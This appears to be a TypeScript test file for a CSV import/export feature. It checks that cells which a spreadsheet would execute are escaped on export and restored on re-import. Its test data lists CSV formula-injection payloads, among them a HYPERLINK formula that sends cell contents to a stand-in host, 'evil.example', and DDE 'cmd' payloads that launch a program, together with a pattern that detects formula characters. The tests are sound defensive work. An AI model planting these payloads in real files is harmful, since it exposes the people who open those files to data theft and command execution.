import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { asItWas, harmless } from "#app/http/formula.ts";
import { loadTexts } from "#app/i18n/texts.server.ts";
import { errorsCsv } from "#app/imports/errors-csv.ts";
import { readOwnClasses } from "#app/imports/own-file.ts";
import { checkOwnRow } from "#app/imports/own-row.ts";
import { readCsv } from "#app/imports/read-csv.ts";
import type { RowOutcome } from "#app/imports/report.ts";
import { bytes } from "./ncs-csv.ts";
import { type Cells, CLUB, ownCsv } from "./own-csv.ts";

const { t } = loadTexts(join(process.cwd(), "locales"))("en");

/** What a spreadsheet runs, and what only looks like it. */
const ATTACKS = [
	'=HYPERLINK("http://evil.example?"&A1,"click")',
	"=cmd|' /C calc'!A0",
	"+44 20 7946 0123",
	"-2+3+cmd|' /C calc'!D2",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"'=1+1",
	"''=1+1",
	" =1+1",
	"\uFF1D1+1",
	"\uFF0B1",
	"\uFF0D1",
	"\uFF20SUM(1)",
	'"=1+1"',
	"=1+1\n=2+2",
	"'tis so",
	"plain",
	"صف الإنجليزية",
];
const RUNS = /^[\s]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

describe("a cell that a spreadsheet would run", () => {
	test.each([...ATTACKS, "\t=1+1", "\r=1+1", "\n=1+1"])(
		"%j is harmless, and comes back",
		(cell) => {
			expect(harmless(cell)).not.toMatch(RUNS);
			expect(asItWas(harmless(cell))).toBe(cell);
		},
	);

	test("whatever it holds, it comes back as it was", () => {
		const sign = fc.constantFrom(..."'=+-@\t\r\n \uFF1Dab1\"");
		const cell = fc.array(sign, { maxLength: 8 }).map((signs) => signs.join(""));
		fc.assert(
			fc.property(cell, (text) => {
				expect(asItWas(harmless(text))).toBe(text);
				expect(harmless(text)).not.toMatch(RUNS);
			}),
			{ numRuns: 2000 },
		);
	});

	test("what is harmless is left alone", () => {
		for (const cell of ["", "plain", "'tis", "a=b", "12", "1-2", "E17 7JN", "'"]) {
			expect(harmless(cell)).toBe(cell);
			expect(asItWas(cell)).toBe(cell);
		}
	});
});

test("wrong rows go out with nothing that runs, and come in as they were", async () => {
	const rows = ATTACKS.map((attack, n) => ({
		...CLUB,
		reference: `r${n}`,
		summary: attack,
		bring: attack,
		cost: "wrong",
	}));
	const sent = await outcomesOf(ownCsv(...rows));
	const back = errorsCsv(t, sent.header, sent.outcomes);
	const cells = await cellsOf(back);
	expect(cells.filter((cell) => RUNS.test(cell))).toEqual([]);

	const again = await outcomesOf(back);
	expect(again.outcomes.map(({ row }) => row.cells.summary)).toEqual(
		ATTACKS.map((attack) => attack.trim()),
	);
	expect(errorsCsv(t, again.header, again.outcomes)).toBe(back);
});

test("the corrected file comes in with the column of errors still there", async () => {
	const phone = { ...CLUB, phone: "+44 20 7946 0123", cost: "a little" };
	const sent = await outcomesOf(ownCsv(phone, { ...CLUB, reference: "good" }));
	const back = errorsCsv(t, sent.header, sent.outcomes);
	expect(back).toContain("'+44");
	expect(back).toContain("cost (a little): Write pounds");
	const mended = await outcomesOf(back.replace('"a little"', '"0"'));
	expect(mended.outcomes).toHaveLength(1);
	expect(mended.outcomes[0]?.errors).toEqual([]);
	expect(mended.outcomes[0]?.row.cells.phone).toBe("+44 20 7946 0123");
});

test("an apostrophe in a file that we never made is the provider's own", async () => {
	const read = await outcomesOf(ownCsv({ ...CLUB, summary: "'-ing' and '-ed'" } satisfies Cells));
	expect(read.outcomes[0]?.row.cells.summary).toBe("'-ing' and '-ed'");
});

async function outcomesOf(text: string) {
	const read = await readOwnClasses(bytes(text));
	if (!read.ok) throw new Error(JSON.stringify(read.failures));
	const outcomes = read.value.rows.map((row): RowOutcome => {
		const { errors, warnings } = checkOwnRow(row, "2026-09-01");
		const told = { row, reference: "", title: "", state: null, missing: [], changes: [] };
		return { ...told, action: errors.length > 0 ? "wrong" : "new", errors, warnings };
	});
	return { header: read.value.header, outcomes };
}

async function cellsOf(csv: string): Promise<string[]> {
	const read = await readCsv(bytes(csv));
	if (!read.ok) throw new Error(JSON.stringify(read.failures));
	expect(read.value.rows.length).toBeGreaterThan(10);
	return read.value.rows.flatMap(({ cells }) => cells);
}
